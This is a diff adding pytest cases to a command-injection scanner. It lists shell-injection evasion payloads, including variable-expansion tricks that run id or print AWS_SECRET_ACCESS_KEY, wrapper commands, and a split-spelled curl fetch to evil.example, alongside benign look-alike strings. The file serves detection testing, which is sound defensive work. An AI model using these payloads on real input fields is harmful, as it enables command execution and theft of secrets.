@@ -468,3 +468,35 @@ def test_unix_commands_with_capital_letters_run_nothing(value: str) -> None:
 def test_commands_windows_runs_in_any_case_and_program_paths_are_still_reported(payload: str) -> None:
     found = cmdi.scan(payload, CTX)
     assert found is not None and found.rule_id == "HG-CMDI-001", (payload, found)
+
+
+# Each ran `id`, dumped the environment or fetched a URL under dash and bash, in templates such as
+# `echo {}` and `ping -c 1 "{}"`.
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "127.0.0.1;${x:=id}",  # an unset variable's default word is the command
+        '1.1.1.1";${u-env};"',
+        "${x:-$(id)}",  # a substitution inside the default still runs
+        "x;${x:=$(printenv AWS_SECRET_ACCESS_KEY)}",
+        "127.0.0.1;$0 -c 'printenv'",  # the running shell started again by its own name
+        ";$BASH -c env",
+        '127.0.0.1;i$""d',  # bash's locale quoting between letters
+        "x;setsid id",  # wrappers run the command after their options and operands
+        "x;stdbuf -o0 env",
+        "x;command -p id",
+        "x;taskset 0x1 id",
+        "127.0.0.1;a=i;b=d;$a$b",  # a command spelled across variables
+        "$(a=cu;b=rl;$a$b http://evil.example/x)",
+    ],
+)
+def test_shell_evasions_that_really_ran(payload: str) -> None:
+    assert cmdi.scan(payload, CTX) is not None, payload
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["Hello ${name:-friend}", "path=${HOME:-/root}", "costs $0 -cheap", "a=1;b=2;$a$b", "timeout of 5 seconds"],
+)
+def test_text_near_those_evasions_is_no_command(value: str) -> None:
+    assert cmdi.scan(value, CTX) is None, value
